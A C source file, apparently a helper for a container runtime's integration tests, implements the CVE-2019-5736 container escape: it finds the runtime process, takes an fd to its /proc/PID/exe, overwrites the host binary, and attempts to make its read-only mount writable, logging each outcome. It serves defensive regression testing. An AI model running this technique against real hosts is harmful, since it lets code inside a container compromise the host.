/* exe_thief: the CVE-2019-5736 attacker of tests/integration/boundary_exe.bats,
 * run inside a container. It waits for a process whose arguments include
 * "--log=FIFO" (the runtime binary, started in the container through a
 * /proc/self/exe symlink or a `#!/proc/self/exe` script, blocked opening
 * its --log FIFO until someone reads), takes an O_PATH fd of its
 * /proc/PID/exe, lets it go on (opens the FIFO for reading), and once
 * nothing executes that file any more reopens the fd for writing through
 * /proc/self/fd/N and writes "PWNED" over its first bytes.
 *
 *   exe_thief FIFO OUT [SECONDS [mount]]
 *
 * Appends to OUT (and prints) "target: PID EXE-LINK" (or "target: none"),
 * "reopen: ok|ERRNO", "write: ok|ERRNO", then "done". Gives up after
 * SECONDS (default 20). With "mount" it then attacks the mount the exe
 * lies on (boundary_exe_mount.bats): "mnt_id: N" (statx), "mountinfo:
 * absent|PID" (a /proc/PID/mountinfo that lists that mount), "setattr:
 * ok|ERRNO" (mount_setattr clearing MOUNT_ATTR_RDONLY), "clone: ok|ERRNO"
 * (open_tree OPEN_TREE_CLONE of it) and, when the clone worked,
 * "clone-setattr: ..." and "clone-reopen: ..." (the same through the
 * clone). Built -static to run in the busybox rootfs. */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

static FILE *out;

static void __attribute__ ((format (printf, 1, 2)))
say (const char *fmt, ...)
{
  va_list ap;
  va_start (ap, fmt);
  vfprintf (out, fmt, ap);
  va_end (ap);
  fflush (out);
}

static const char *
errno_name (int e)
{
  switch (e)
    {
    case EPERM: return "EPERM";
    case EACCES: return "EACCES";
    case ENOENT: return "ENOENT";
    case ETXTBSY: return "ETXTBSY";
    case EROFS: return "EROFS";
    case EINVAL: return "EINVAL";
    case EBADF: return "EBADF";
    case ESRCH: return "ESRCH";
    case ENOSYS: return "ENOSYS";
    case EXDEV: return "EXDEV";
    default: return "EOTHER";
    }
}

static double
now (void)
{
  struct timespec ts;
  clock_gettime (CLOCK_MONOTONIC, &ts);
  return (double) ts.tv_sec + (double) ts.tv_nsec / 1e9;
}

/* Does /proc/PID/cmdline hold an argument equal to marker? */
static int
has_arg (const char *pid, const char *marker)
{
  char path[300], buf[8192];
  ssize_t n;
  int fd;

  snprintf (path, sizeof path, "/proc/%s/cmdline", pid);
  fd = open (path, O_RDONLY | O_CLOEXEC);
  if (fd < 0)
    return 0;
  n = read (fd, buf, sizeof buf - 1);
  close (fd);
  if (n <= 0)
    return 0;
  buf[n] = '\0';
  for (char *p = buf; p < buf + n; p += strlen (p) + 1)
    if (strcmp (p, marker) == 0)
      return 1;
  return 0;
}

/* Scan /proc until a process carries marker; return an O_PATH fd of its
 * exe (and its pid in *pid_out), or -1 at the deadline. */
static int
grab_exe (const char *marker, double deadline, char *pid_out, size_t pid_len)
{
  char self[32];
  snprintf (self, sizeof self, "%d", (int) getpid ());
  while (now () < deadline)
    {
      DIR *d = opendir ("/proc");
      struct dirent *e;
      if (d == NULL)
        return -1;
      while ((e = readdir (d)) != NULL)
        {
          char path[300];
          int fd;
          if (e->d_name[0] < '0' || e->d_name[0] > '9' || strcmp (e->d_name, self) == 0)
            continue;
          if (!has_arg (e->d_name, marker))
            continue;
          snprintf (path, sizeof path, "/proc/%s/exe", e->d_name);
          fd = open (path, O_PATH | O_CLOEXEC);
          if (fd < 0)
            {
              say ("open %s: %s\n", path, errno_name (errno));
              continue;
            }
          snprintf (pid_out, pid_len, "%s", e->d_name);
          closedir (d);
          return fd;
        }
      closedir (d);
      usleep (2000);
    }
  return -1;
}

/* Clear MOUNT_ATTR_RDONLY on the mount fd lies on. */
static int
clear_rdonly (int fd)
{
  struct mount_attr attr = { .attr_clr = MOUNT_ATTR_RDONLY };
  return (int) syscall (SYS_mount_setattr, fd, "", AT_EMPTY_PATH, &attr, sizeof attr);
}

/* Is mount id listed in any /proc/PID/mountinfo this process can read?
 * Prints the first PID that lists it, or "absent". */
static void
find_in_mountinfo (unsigned long long id)
{
  char want[32];
  DIR *d = opendir ("/proc");
  struct dirent *e;
  int n = snprintf (want, sizeof want, "%llu ", id);

  while (d != NULL && (e = readdir (d)) != NULL)
    {
      char path[300], line[8192];
      FILE *f;
      if (e->d_name[0] < '0' || e->d_name[0] > '9')
        continue;
      snprintf (path, sizeof path, "/proc/%s/mountinfo", e->d_name);
      f = fopen (path, "re");
      if (f == NULL)
        continue;
      while (fgets (line, sizeof line, f) != NULL)
        if (strncmp (line, want, (size_t) n) == 0)
          {
            say ("mountinfo: %s\n", e->d_name);
            fclose (f);
            closedir (d);
            return;
          }
      fclose (f);
    }
  if (d != NULL)
    closedir (d);
  say ("mountinfo: absent\n");
}

/* The attacks on the mount itself: make it writable, or clone it and make
 * the clone writable. */
static void
attack_mount (int exe)
{
  struct statx stx;
  int clone;

  if (statx (exe, "", AT_EMPTY_PATH, STATX_MNT_ID, &stx) == 0 && (stx.stx_mask & STATX_MNT_ID))
    {
      say ("mnt_id: %llu\n", (unsigned long long) stx.stx_mnt_id);
      find_in_mountinfo ((unsigned long long) stx.stx_mnt_id);
    }
  else
    say ("mnt_id: %s\n", errno_name (errno));
  say ("setattr: %s\n", clear_rdonly (exe) == 0 ? "ok" : errno_name (errno));
  clone = (int) syscall (SYS_open_tree, exe, "", OPEN_TREE_CLONE | OPEN_TREE_CLOEXEC | AT_EMPTY_PATH);
  if (clone < 0)
    {
      say ("clone: %s\n", errno_name (errno));
      return;
    }
  say ("clone: ok\n");
  say ("clone-setattr: %s\n", clear_rdonly (clone) == 0 ? "ok" : errno_name (errno));
  char path[64];
  snprintf (path, sizeof path, "/proc/self/fd/%d", clone);
  int w = open (path, O_WRONLY | O_CLOEXEC);
  say ("clone-reopen: %s\n", w >= 0 ? "ok" : errno_name (errno));
  if (w >= 0)
    {
      say ("clone-write: %s\n", pwrite (w, "PWNED", 5, 0) == 5 ? "ok" : errno_name (errno));
      close (w);
    }
  close (clone);
}

int
main (int argc, char **argv)
{
  char marker[4200], pid[256], link[4096], path[64];
  double deadline;
  ssize_t n;
  int exe, fifo, w = -1;

  if (argc < 3)
    {
      fprintf (stderr, "usage: exe_thief FIFO OUT [SECONDS]\n");
      return 2;
    }
  out = fopen (argv[2], "a");
  if (out == NULL)
    return 2;
  deadline = now () + (argc > 3 ? atof (argv[3]) : 20.0);
  if (mkfifo (argv[1], 0666) < 0 && errno != EEXIST)
    {
      say ("mkfifo: %s\ndone\n", errno_name (errno));
      return 1;
    }
  snprintf (marker, sizeof marker, "--log=%s", argv[1]);
  say ("ready\n");

  exe = grab_exe (marker, deadline, pid, sizeof pid);
  if (exe < 0)
    {
      say ("target: none\ndone\n");
      return 1;
    }
  snprintf (path, sizeof path, "/proc/self/fd/%d", exe);
  n = readlink (path, link, sizeof link - 1);
  link[n > 0 ? n : 0] = '\0';
  say ("target: %s %s\n", pid, link);

  /* Release the runtime: its open(FIFO, O_WRONLY) returns once a reader
   * exists; then it fails on its arguments and exits. */
  fifo = open (argv[1], O_RDONLY | O_NONBLOCK | O_CLOEXEC);

  /* While anything executes the file, opening it for writing is ETXTBSY. */
  while (now () < deadline)
    {
      char drain[4096];
      if (fifo >= 0)
        while (read (fifo, drain, sizeof drain) > 0)
          ;
      w = open (path, O_WRONLY | O_CLOEXEC);
      if (w >= 0 || errno != ETXTBSY)
        break;
      usleep (5000);
    }
  if (w < 0)
    {
      say ("reopen: %s\n", errno_name (errno));
      if (argc > 4 && strcmp (argv[4], "mount") == 0)
        attack_mount (exe);
      say ("done\n");
      return 1;
    }
  say ("reopen: ok\n");
  if (pwrite (w, "PWNED", 5, 0) == 5)
    say ("write: ok\n");
  else
    say ("write: %s\n", errno_name (errno));
  say ("done\n");
  return 0;
}
